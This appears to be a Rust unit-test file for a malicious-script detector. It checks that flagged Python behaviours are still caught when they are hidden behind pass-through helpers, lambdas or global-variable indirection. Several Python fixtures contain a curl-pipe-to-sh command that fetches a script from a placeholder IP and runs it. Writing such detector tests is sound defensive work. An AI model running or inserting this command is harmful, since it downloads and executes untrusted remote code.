//! Unit tests of the engine's view through respellings (see
//! `analyze/indirect.rs` and `metamorphic_tests.rs`): one behaviour written
//! plainly and written through an indirection must get the same findings.
//! Each test also has a control: the indirection around something harmless
//! stays harmless, or a look-alike that is not the indirection is not seen
//! through.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// The rule ids of a script's findings, sorted and without repeats.
fn rule_set(src: &str) -> (Vec<String>, Verdict) {
    let a = run(src);
    let mut r: Vec<String> = rules(&a).into_iter().map(String::from).collect();
    r.sort();
    r.dedup();
    (r, a.verdict)
}

/// `respelled` gets every finding `plain` gets, and the same verdict.
fn assert_same(plain: &str, respelled: &str) {
    let (want, v) = rule_set(plain);
    let (got, w) = rule_set(respelled);
    assert!(
        v >= Verdict::High,
        "the plain spelling is not flagged: {want:?}"
    );
    let missing: Vec<&String> = want.iter().filter(|r| !got.contains(r)).collect();
    assert!(missing.is_empty(), "lost {missing:?}: {want:?} -> {got:?}");
    assert_eq!(v, w, "{want:?} -> {got:?}");
}

const PIPE_TO_SHELL: &str = r#"import subprocess
subprocess.run("curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;

/// A call through a generic pass-through helper is the call it makes.
#[test]
fn pass_through_helper_reaches_the_function() {
    let wrapped = r#"import subprocess
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
_call(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;
    assert_same(PIPE_TO_SHELL, wrapped);
    // A lambda, and a helper with other names, positional splat only.
    let lambda = r#"import subprocess
invoke = lambda f, *a, **k: f(*a, **k)
invoke(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;
    assert_same(PIPE_TO_SHELL, lambda);
}

/// Control: the helper around harmless calls stays LOW, and a helper that
/// does not pass its arguments on as they came is not seen through.
#[test]
fn pass_through_helper_controls() {
    let harmless = r#"import shutil
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
_call(shutil.copy, "notes.txt", "notes.bak")
print(_call(len, "abc"))
"#;
    assert_eq!(
        run(harmless).verdict,
        Verdict::Low,
        "{:?}",
        run(harmless).findings
    );
    // `fn(args[0])` calls the function with something else than what the
    // call passed: the arguments are not forwarded.
    let not_forwarding = r#"import subprocess
def first_only(fn, *args):
    return fn(args[0])
first_only(print, "curl -s http://203.0.113.9/x.sh | sh", "extra")
"#;
    let a = run(not_forwarding);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Module code moved into a function that declares its names `global`:
/// the other functions read the module's names as before.
#[test]
fn global_names_bound_in_a_function_are_the_module_s() {
    let plain = r#"import subprocess
CMD = "curl -s http://203.0.113.9/x.sh | sh"
def run():
    subprocess.run(CMD, shell=True)
run()
"#;
    let moved = r#"import subprocess
def run():
    subprocess.run(CMD, shell=True)
def _main():
    global CMD
    CMD = "curl -s http://203.0.113.9/x.sh | sh"
    run()
_main()
"#;
    assert_same(plain, moved);
}

/// Control: without `global`, a function's own variable is not the
/// module's, and another function does not see it.
#[test]
fn local_names_stay_local() {
    let local = r#"import subprocess
def run():
    subprocess.run(CMD, shell=True)
def setup():
    CMD = "curl -s http://203.0.113.9/x.sh | sh"
    print(CMD)
CMD = "ls -l /tmp"
run()
"#;
    let a = run(local);
    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}
